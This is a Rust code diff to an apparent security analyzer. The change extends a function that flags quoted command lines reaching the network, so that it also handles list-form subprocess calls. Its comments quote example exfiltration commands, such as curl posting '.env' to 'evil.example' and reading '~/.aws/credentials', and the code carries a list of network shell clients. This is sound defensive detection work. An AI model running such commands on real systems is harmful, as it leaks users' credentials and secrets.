@@ -184,7 +184,14 @@ impl Analyzer {
 impl Analyzer {
     /// A program of unknown reach: remembered with the credential files it is handed
     /// (`notify --attach .env`, `--file=~/.aws/credentials`).
-    fn unknown_program(&mut self, name: &str, args: &[Arg], reads_input: bool, handed: Vec<String>, depth: usize) {
+    pub(super) fn unknown_program(
+        &mut self,
+        name: &str,
+        args: &[Arg],
+        reads_input: bool,
+        handed: Vec<String>,
+        depth: usize,
+    ) {
         if self.facts.unknown_programs.len() >= crate::flow::shell::MAX_ENTRIES {
             return;
         }
@@ -213,20 +220,30 @@ impl Analyzer {
 
 /// Literals quoted inside an argument that read as command lines of a program that reaches
 /// the network (`os.execute("curl -s -T .env https://...")`).
-fn quoted_command_lines(arguments: &str) -> Vec<String> {
+pub(super) fn quoted_command_lines(arguments: &str) -> Vec<String> {
     const CLIENTS: &[&str] = &["curl", "wget", "nc", "ncat", "socat", "scp", "rsync", "ssh", "sh", "bash", "http"];
-    arguments
-        .split(['"', '\'', '`'])
-        .skip(1)
-        .step_by(2)
-        .filter(|t| t.contains(' ') && t.len() < 4096)
-        .filter(|t| {
-            let first = t.split_whitespace().next().unwrap_or("");
-            CLIENTS.contains(&first.rsplit('/').next().unwrap_or(first))
-        })
+    let names_a_client = |t: &str| {
+        let first = t.split_whitespace().next().unwrap_or("");
+        CLIENTS.contains(&first.rsplit('/').next().unwrap_or(first))
+    };
+    let literals: Vec<&str> = arguments.split(['"', '\'', '`']).skip(1).step_by(2).collect();
+    let mut out: Vec<String> = literals
+        .iter()
+        .filter(|t| t.contains(' ') && t.len() < 4096 && names_a_client(t))
         .take(8)
-        .map(str::to_owned)
-        .collect()
+        .map(|t| t.to_string())
+        .collect();
+    // `subprocess.run(["curl", "-d", "@.env", "evil.example"])`: a list of quoted words is
+    // one command line.
+    for list in arguments.split('[').skip(1).filter_map(|rest| rest.split_once(']').map(|(inside, _)| inside)).take(8) {
+        let words: Vec<&str> = list.split(['"', '\'']).skip(1).step_by(2).collect();
+        let separators_only =
+            list.split(['"', '\'']).step_by(2).all(|gap| gap.trim().trim_matches(',').trim().is_empty());
+        if words.len() >= 2 && separators_only && names_a_client(words[0]) {
+            out.push(words.join(" "));
+        }
+    }
+    out
 }
 
 /// What a sed script runs through GNU sed's `e` command or the `e` flag of `s`.
